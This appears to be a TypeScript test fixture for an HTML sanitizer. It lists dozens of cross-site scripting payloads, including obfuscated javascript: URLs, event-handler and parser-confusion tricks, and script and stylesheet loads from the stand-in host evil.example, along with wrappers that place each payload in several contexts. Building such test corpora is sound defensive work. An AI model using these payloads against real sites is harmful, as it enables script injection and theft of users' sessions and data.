// HTML that tries to act: payloads and the frames they are put into. Data only.

/** What an attacker puts somewhere; each goes into every frame below. */
export const hostilePayloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script/x>",
  "<script>alert(1)",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  '<img src="x" OnErRoR="alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=x:alert(alt) onerror=eval(src) alt=1>",
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  "<img srcset='x 1x' sizes=y onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math href='javascript:alert(1)'>x</math>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  "<a href=vbscript:msgbox(1)>x</a>",
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  "<a href=https://ok.example onclick=alert(1) style='position:fixed;inset:0'>x</a>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=javascript:alert(1)//>",
  "<style>@import '//evil.example'</style>",
  '<p style="background:url(//evil.example)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;background-image:url(x)">x</p>',
  '<p style="color:\\65xpression(alert(1))">x</p>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<p title='<img src=x onerror=alert(1)>'>x</p>",
  '<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>',
  "<x onpointerover=alert(1)>x</x>",
  "<a xlink:href=javascript:alert(1)>x</a>",
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "[x](javascript:alert(1))",
  "[x]( <javascript:alert(1)>)",
  "<b id=location name=cookie class=modal>x</b>",
];

const FRAMES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `text ${payload} text`,
  (payload) => `<div>${payload}</div>`,
  (payload) => `<p title="${payload}">x</p>`,
  (payload) => `<!-- ${payload}`,
  (payload) => `<b ${payload}`,
  (payload) => payload.replaceAll("<", "<\u0000"),
  (payload) => payload.toUpperCase(),
];

/** Ends whatever the text before may have opened and left open. */
const END = `'">--></script></style></title></textarea></xmp></noscript></template></select></svg></math></table></a></b>`;

/** Many texts in one, each at its full force: none swallows the next. `<plaintext>`, which nothing ends, comes last. */
export function together(texts: readonly string[]): string {
  const isEndless = (text: string) => /<plaintext/i.test(text);
  const ordered = [...texts.filter((text) => !isEndless(text)), ...texts.filter(isEndless)];
  return ordered.join(`${END}\n\n`);
}

/** Each payload in each frame. */
export const hostileHtml = hostilePayloads.flatMap((payload) => FRAMES.map((frame) => frame(payload)));
